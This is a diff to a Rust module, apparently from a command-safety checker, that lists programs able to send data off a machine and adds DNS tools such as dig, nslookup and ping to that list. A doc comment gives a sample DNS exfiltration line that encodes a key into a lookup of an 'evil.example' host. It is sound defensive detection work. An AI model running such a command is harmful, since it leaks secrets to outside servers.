@@ -25,11 +25,16 @@ pub(crate) enum Sender {
     /// socat: a file address (`FILE:`, `OPEN:`, a bare path) or stdin (`-`, `STDIN`) beside a
     /// network address.
     Socat,
-    /// `aws s3 cp|sync|mv SRC s3://…` and `aws s3api put-object --body FILE` made public
-    /// with `--acl public-read` (or `public-read-write`).
-    AwsPublic,
-    /// `gh gist create --public FILE…` (`-` or no file: stdin).
-    GhPublicGist,
+    /// `aws s3 cp|sync|mv SRC s3://…` and `aws s3api put-object --body FILE`: a bucket may be
+    /// anyone's, and `--acl public-read` publishes to everyone.
+    AwsS3,
+    /// `gh gist create FILE…` (`-` or no file: stdin): a secret gist is unlisted, not
+    /// private; anyone with its address reads it.
+    GhGist,
+    /// DNS lookups (dig, nslookup, host, drill, ping and friends): the names they resolve
+    /// reach the name's authoritative servers, whoever runs them, so data put into a name
+    /// (`dig $(base64 < key).evil.example`) leaves the machine.
+    Resolver,
 }
 
 /// The senders, by program table name.
@@ -51,8 +56,18 @@ pub(crate) const SENDERS: &[(&str, Sender)] = &[
     ("netcat", Sender::Socket),
     ("telnet", Sender::Socket),
     ("socat", Sender::Socat),
-    ("aws", Sender::AwsPublic),
-    ("gh", Sender::GhPublicGist),
+    ("aws", Sender::AwsS3),
+    ("gh", Sender::GhGist),
+    ("dig", Sender::Resolver),
+    ("nslookup", Sender::Resolver),
+    ("host", Sender::Resolver),
+    ("drill", Sender::Resolver),
+    ("delv", Sender::Resolver),
+    ("kdig", Sender::Resolver),
+    ("ping", Sender::Resolver),
+    ("ping6", Sender::Resolver),
+    ("traceroute", Sender::Resolver),
+    ("getent", Sender::Resolver),
 ];
 
 /// The sender row of a program (by its program table name).
@@ -101,9 +116,6 @@ pub(crate) const SOCAT_STDIN_TYPES: &[&str] = &["-", "STDIN", "STDIO"];
 
 /// socat address types that run a program (a shell on a socket is a reverse shell).
 pub(crate) const SOCAT_EXEC_TYPES: &[&str] = &["EXEC", "SYSTEM"];
-
-/// S3 canned ACLs that make an object public.
-pub(crate) const PUBLIC_ACLS: &[&str] = &["public-read", "public-read-write"];
 
 /// Programs whose output holds nothing of the data they read (names, sizes, digests,
 /// modes, nothing at all): a secret given to them goes no further.
